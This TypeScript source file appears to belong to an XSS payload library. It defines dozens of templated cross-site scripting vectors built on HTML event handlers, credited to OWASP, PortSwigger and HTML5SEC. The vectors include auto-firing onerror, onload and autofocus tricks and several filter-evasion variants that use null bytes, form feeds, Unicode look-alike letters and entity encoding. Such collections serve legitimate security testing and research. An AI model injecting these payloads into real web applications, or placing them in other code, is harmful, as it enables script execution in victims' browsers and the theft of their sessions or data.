import { category } from './payload';
import { HEYES, HTML5SEC, OWASP, own, PORTSWIGGER, WHATWG } from './sources';

/** Attributes that run without the reader doing anything, and some that wait for a press. */
export const EVENT_HANDLERS = category('event-handlers', [
  [
    OWASP,
    {
      'img-error': '<img src=x: onerror={{CALL}}>',
      'img-error-quotes': '<img src="x:" onerror="{{CALL}}">',
      'img-error-slash': '<img/src=x:/onerror={{CALL}}>',
      'img-no-src': '<img src onerror={{CALL}}>',
      'img-junk-before': '<img src=x: on=1 onerror!#$%()*~+-_.,:;?@[/|\\]^`={{CALL}} onerror={{CALL}}>',
      'img-decimal': '<img src=x: onerror="{{DECIMAL:{{CALL}}}}">',
      'img-hex': '<img src=x: onerror="{{HEX:{{CALL}}}}">',
      'body-onload': '<body onload={{CALL}}>',
      'body-background': '<body background="{{URL}}" onpageshow={{CALL}}>',
      'link-hover': '<a onmouseover={{CALL}}>a line of text</a>',
      'iframe-onmouseover': '<iframe src=# onmouseover={{CALL}}></iframe>',
      bgsound: '<bgsound src="{{URL}}" onerror={{CALL}}>',
    },
  ],
  [
    PORTSWIGGER,
    {
      'img-load': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload={{CALL}}>',
      'img-loadend': '<img src="{{URL}}" onloadend={{CALL}} onload={{CALL}}>',
      'svg-onload': '<svg onload={{CALL}}>',
      'svg-inner-onload': '<svg><g onload={{CALL}}></g></svg>',
      'svg-image-error': '<svg><image href=x: onerror={{CALL}} /></svg>',
      'svg-image-load': '<svg><image href="{{URL}}" onload={{CALL}} /></svg>',
      'svg-animate-begin': '<svg><animate onbegin={{CALL}} attributeName=x dur=1s></svg>',
      'svg-animate-end': '<svg><animate onend={{CALL}} attributeName=x dur=0.1s></svg>',
      'svg-animate-repeat': '<svg><animate onrepeat={{CALL}} attributeName=x dur=0.1s repeatCount=2></svg>',
      'svg-set-begin': '<svg><set onbegin={{CALL}} attributeName=x to=1></svg>',
      'svg-motion-begin': '<svg><animateMotion onbegin={{CALL}} dur=1s path="M0,0L1,1"></svg>',
      'svg-transform-begin': '<svg><animateTransform onbegin={{CALL}} attributeName=transform dur=1s></svg>',
      'video-source-error': '<video><source onerror={{CALL}}></video>',
      'video-error': '<video src=x: onerror={{CALL}}></video>',
      'video-loadstart': '<video src="{{URL}}" onloadstart={{CALL}}></video>',
      'video-track-error': '<video controls><track default src=x: kind=captions onerror={{CALL}}></video>',
      'audio-error': '<audio src=x: onerror={{CALL}}></audio>',
      'audio-loadstart': '<audio src="{{URL}}" onloadstart={{CALL}} autoplay></audio>',
      'audio-source-error': '<audio controls autoplay><source src=x: onerror={{CALL}}></audio>',
      'audio-play':
        '<audio autoplay onplay={{CALL}} oncanplay={{CALL}} src="data:audio/wav;base64,UklGRiUAAABXQVZFZm10IBAAAAABAAEARKwAAESsAAABAAgAZGF0YQEAAACA"></audio>',
      'details-toggle': '<details open ontoggle={{CALL}}>a</details>',
      'details-summary': '<details ontoggle={{CALL}} open><summary>a</summary>b</details>',
      'input-autofocus': '<input autofocus onfocus={{CALL}}>',
      'select-autofocus': '<select autofocus onfocus={{CALL}}></select>',
      'textarea-autofocus': '<textarea autofocus onfocus={{CALL}}></textarea>',
      'button-autofocus': '<button autofocus onfocus={{CALL}}>a</button>',
      'tabindex-autofocus': '<p tabindex=1 autofocus onfocus={{CALL}}>a</p>',
      'link-autofocus': '<a href=# autofocus onfocus={{CALL}}>a</a>',
      'contenteditable-autofocus': '<b contenteditable autofocus onfocus={{CALL}}>a</b>',
      'iframe-load': '<iframe onload={{CALL}}></iframe>',
      'iframe-src-load': '<iframe src="about:blank" onload={{CALL}}></iframe>',
      'object-error': '<object data=x: onerror={{CALL}}></object>',
      'object-load': '<object data="{{URL}}" type=text/html onload={{CALL}}></object>',
      'embed-load': '<embed src="{{URL}}" onload={{CALL}}>',
      'style-load': '<style onload={{CALL}}></style>',
      'link-load': '<link rel=stylesheet href="{{URL}}" onload={{CALL}}>',
      'link-error': '<link rel=stylesheet href=x: onerror={{CALL}}>',
      'marquee-start': '<marquee onstart={{CALL}}>a</marquee>',
      'marquee-finish': '<marquee loop=1 width=0 onfinish={{CALL}}>a</marquee>',
      'marquee-bounce': '<marquee behavior=alternate width=1 onbounce={{CALL}}>a</marquee>',
      'css-animation-start':
        '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart={{CALL}}>a</p>',
      'css-animation-end':
        '<style>@keyframes x{from{left:0}to{left:1px}}</style><p style="animation:x 0.01s" onanimationend={{CALL}}>a</p>',
      'css-webkit-animation':
        '<style>@keyframes x{}</style><p style="animation-name:x" onwebkitanimationstart={{CALL}}>a</p>',
      'content-visibility':
        '<p style="display:block;content-visibility:auto" oncontentvisibilityautostatechange={{CALL}}>a</p>',
      'scroll-snap':
        '<div onscrollsnapchange={{CALL}} style="overflow:auto;height:9px;scroll-snap-type:y mandatory"><p style="scroll-snap-align:start">a</p></div>',
      'pointer-raw': '<p onpointerrawupdate={{CALL}} onpointerenter={{CALL}}>a</p>',
      'before-match': '<p hidden=until-found onbeforematch={{CALL}}>a</p>',
      clipboard: '<p oncopy={{CALL}} onbeforecopy={{CALL}} oncut={{CALL}} onpaste={{CALL}}>a</p>',
      drag: '<p draggable=true ondragstart={{CALL}} ondrag={{CALL}}>a</p>',
      keys: '<p contenteditable onkeydown={{CALL}} onbeforeinput={{CALL}}>a</p>',
      wheel: '<p onwheel={{CALL}} onscroll={{CALL}} style="overflow:auto">a</p>',
      selection: '<input value=a autofocus onselect={{CALL}} onselectionchange={{CALL}}>',
      invalid:
        '<form><input required oninvalid={{CALL}}><button autofocus onfocus=this.click()>a</button></form>',
      'hash-change': '<body onhashchange={{CALL}} onpopstate={{CALL}} onmessage={{CALL}}>',
      unload: '<body onbeforeunload={{CALL}} onpagehide={{CALL}} onunload={{CALL}}>',
      'print-events': '<body onbeforeprint={{CALL}} onafterprint={{CALL}}>',
      resize: '<body onresize={{CALL}} onorientationchange={{CALL}} onscrollend={{CALL}}>',
    },
  ],
  [
    HTML5SEC,
    {
      'input-image-error': '<input type=image src=x: onerror={{CALL}}>',
      'svg-on-focusin':
        '<svg><a xlink:href="#" tabindex=1 autofocus onfocusin={{CALL}}><text>a</text></a></svg>',
      'frameset-onload': '<frameset onload={{CALL}}></frameset>',
      isindex: '<isindex type=image src=1 onerror={{CALL}}>',
      'layer-onload': '<layer onload={{CALL}} src="{{URL}}"></layer>',
      'slash-instead-of-space': '<video/poster/onerror={{CALL}}><source/onerror={{CALL}}>',
      'form-feed-separator': '<img\fsrc=x:\fonerror={{CALL}}>',
      'math-onload': '<math onload={{CALL}} onclick={{CALL}}><mi>x</mi></math>',
    },
  ],
  [
    own(HEYES),
    {
      'unknown-element': '<xss id=x tabindex=1 autofocus onfocus={{CALL}}>a</xss>',
      'upper-attribute': '<IMG SRC=x: ONERROR={{CALL}}>',
      'newline-before-equals': '<img src=x: onerror\n=\n{{CALL}}>',
      'duplicate-attribute': '<img src=x: onerror={{CALL}} onerror=1>',
      'null-in-name': '<img src=x: one\u0000rror={{CALL}} onerror={{CALL}}>',
      'kelvin-sign': '<p on\u212Aeydown={{CALL}} oncl\u0131ck={{CALL}}>a</p>',
    },
  ],
  [
    own(WHATWG),
    {
      'form-data': '<form onformdata={{CALL}} onsubmit={{CALL}} onreset={{CALL}}><button>a</button></form>',
      'slot-change':
        '<div><template shadowrootmode=open><slot onslotchange={{CALL}}></slot></template>a</div>',
      'security-policy': '<p onsecuritypolicyviolation={{CALL}}>a</p>',
      'cue-change':
        '<video><track default src="data:text/vtt,WEBVTT" oncuechange={{CALL}} onload={{CALL}}></video>',
      'context-lost': '<canvas oncontextlost={{CALL}} oncontextrestored={{CALL}}>a</canvas>',
      'dialog-close': '<dialog open onclose={{CALL}} oncancel={{CALL}} onbeforetoggle={{CALL}}>a</dialog>',
    },
  ],
]);
